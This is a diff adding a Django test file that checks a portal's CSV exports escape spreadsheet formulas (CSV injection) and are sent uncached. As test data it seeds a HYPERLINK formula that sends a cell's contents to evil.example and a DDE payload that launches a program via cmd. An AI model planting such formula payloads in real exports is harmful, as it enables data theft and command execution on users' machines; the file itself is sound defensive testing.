@@ -1,0 +1,78 @@
+"""Every CSV the portal sends neutralises cells a spreadsheet would run as a formula (OWASP CSV
+injection), and is an attachment no cache keeps (portal/exports.py).
+
+People and employers with formula-shaped names are seeded where every export reads them; each
+export is downloaded as its user would and every cell is checked. A new CSV route fails the sweep
+until it is added here.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from django.urls import reverse
+
+from portal.exports import FORMULA_STARTS, safe_cell
+from tests.compliance.builders import revoke
+from tests.conftest import Cast
+from tests.factories import ProviderFactory, RecruitFactory
+from tests.pastoral.builders import red_check_in
+from tests.security.urls import all_routes
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+PLUS = "+44 7700 900123"  # a phone number a spreadsheet would also try to compute
+PASTORAL_TABLES = ("due", "overdue", "red", "concerns", "by_provider", "by_month")
+
+
+def _exports(cast: Cast) -> list[tuple[str, str]]:
+    """(user, url) of every CSV export, after seeding formula-shaped names where each one reads them."""
+    cast.recruit_a.family_name = FORMULA
+    cast.recruit_a.save()
+    cast.provider_a.name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    cast.provider_a.save()
+    red_check_in(cast)
+    gamma = ProviderFactory(region=cast.region_a, local_authority=cast.council_a, name="-2+3 Care Ltd")
+    RecruitFactory(provider=gamma, given_names=PLUS, family_name=FORMULA, status="employed")
+    case = revoke(cast, gamma)
+    exports = [
+        ("lead_a", reverse("case_workers_csv", args=[case.public_id])),
+        ("lead_a", reverse("training_cohorts_csv")),
+        ("lead_a", reverse("training_completions_csv")),
+        ("lead_a", reverse("rematch_report_csv")),
+        ("provider_admin_a", reverse("recruit_import_template")),
+    ]
+    exports += [("staff_a", reverse("pastoral_export", args=[table])) for table in PASTORAL_TABLES]
+    return exports
+
+
+def test_every_csv_route_is_in_the_sweep() -> None:
+    swept = {"case_workers_csv", "training_cohorts_csv", "training_completions_csv", "rematch_report_csv",
+             "recruit_import_template", "pastoral_export"}  # fmt: skip
+    csv_routes = {route.name for route in all_routes() if route.route.endswith(".csv") or "export" in route.route}
+    assert csv_routes - {None} <= swept, f"CSV routes not swept here: {sorted(csv_routes - swept - {None})}"
+
+
+def test_no_export_carries_a_formula_and_none_is_cached(cast: Cast, client) -> None:
+    seen_escaped = 0
+    for user, url in _exports(cast):
+        client.force_login(getattr(cast, user))
+        response = client.get(url)
+        assert response.status_code == 200, url
+        assert response["Content-Type"].startswith("text/csv"), url
+        assert response["Cache-Control"] == "no-store" and response["Content-Disposition"].startswith("attachment;")
+        for row in csv.reader(io.StringIO(response.content.decode())):
+            for cell in row:
+                assert not cell.startswith(FORMULA_STARTS), f"{url}: {cell!r} would run as a formula"
+                seen_escaped += cell.startswith(("'=", "'+", "'-", "'@"))
+    assert seen_escaped >= 4, "the seeded names did not reach the exports: the sweep would prove nothing"
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [("=1+1", "'=1+1"), ("+44", "'+44"), ("-3", "'-3"), ("@A1", "'@A1"), ("\tX", "'\tX"), ("\rX", "'\rX"),
+     ("Ada", "Ada"), (-3, -3), (4.5, 4.5), ("", "")],
+)  # fmt: skip
+def test_a_cell_is_neutralised_only_when_it_would_run(value: object, written: object) -> None:
+    assert safe_cell(value) == written
